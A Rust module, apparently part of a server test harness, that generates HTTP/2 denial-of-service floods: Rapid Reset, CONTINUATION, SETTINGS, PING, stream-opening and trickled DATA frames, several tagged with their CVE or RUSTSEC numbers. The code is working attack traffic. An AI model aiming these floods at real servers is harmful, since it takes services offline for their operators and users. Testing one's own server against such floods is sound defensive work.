//! Frames of HTTP/2 that mean nothing, without end, as a client sends them that has a certificate and means harm.

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, Went, call, flood, frame,
    preface,
};
use std::time::Duration;
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

/// A kind of flood.
#[derive(Clone, Copy)]
pub struct FrameFlood {
    /// What comes without end.
    pub name: &'static str,
    first: fn() -> Vec<u8>,
    /// The bytes of a round, by its number.
    again: fn(u32) -> Vec<u8>,
}

impl FrameFlood {
    /// CVE-2023-44487.
    pub const RAPID_RESET: Self =
        Self { name: "streams that are reset at once", first: preface, again: resets };
    /// RUSTSEC-2024-0332.
    pub const CONTINUATIONS: Self = Self {
        name: "a header without end",
        first: || header(0),
        again: |_| repeat(CONTINUATION, 1, &[0; 256]),
    };
    /// CVE-2019-9515.
    pub const SETTINGS: Self = Self {
        name: "SETTINGS without end",
        first: opened,
        again: |_| repeat(SETTINGS, 0, &[0, 4, 0, 0, 255, 255]),
    };
    /// CVE-2019-9512.
    pub const PINGS: Self =
        Self { name: "PING without end", first: opened, again: |_| repeat(PING, 0, &[7; 8]) };
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::RAPID_RESET,
        Self { name: "streams without end", first: preface, again: streams },
        Self::CONTINUATIONS,
        Self {
            name: "a header of empty pieces",
            first: || header(0),
            again: |_| repeat(CONTINUATION, 1, &[]),
        },
        Self::SETTINGS,
        Self::PINGS,
        Self { name: "DATA of one byte each", first: drip, again: |_| repeat(DATA, 1, &[0]) },
        Self { name: "DATA of nothing", first: opened, again: |_| repeat(DATA, 1, &[]) },
    ];

    /// Sends it for so long at most.
    pub async fn run(&self, stream: TlsStream<TcpStream>, most: Duration) -> Went {
        flood(stream, (self.first)(), self.again, most).await
    }
}

/// A connection on which a header has begun.
fn header(flags: u8) -> Vec<u8> {
    let mut bytes = preface();
    frame(&mut bytes, HEADERS, flags, 1, &call());
    bytes
}

/// A connection on which a call stands.
fn opened() -> Vec<u8> {
    header(END_HEADERS)
}

/// A message of 200 KiB begins, whose bytes come one by one.
fn drip() -> Vec<u8> {
    let mut bytes = opened();
    frame(&mut bytes, DATA, 0, 1, &[0, 0, 3, 0, 0]);
    bytes
}

fn repeat(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    (0..256).for_each(|_| frame(&mut bytes, kind, 0, stream, payload));
    bytes
}

fn streams(round: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in 0..64 {
        frame(&mut bytes, HEADERS, END_HEADERS, 1 + (round * 64 + number) * 2, &call());
    }
    bytes
}

fn resets(round: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in 0..64 {
        let stream = 1 + (round * 64 + number) * 2;
        frame(&mut bytes, HEADERS, END_HEADERS, stream, &call());
        frame(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    }
    bytes
}
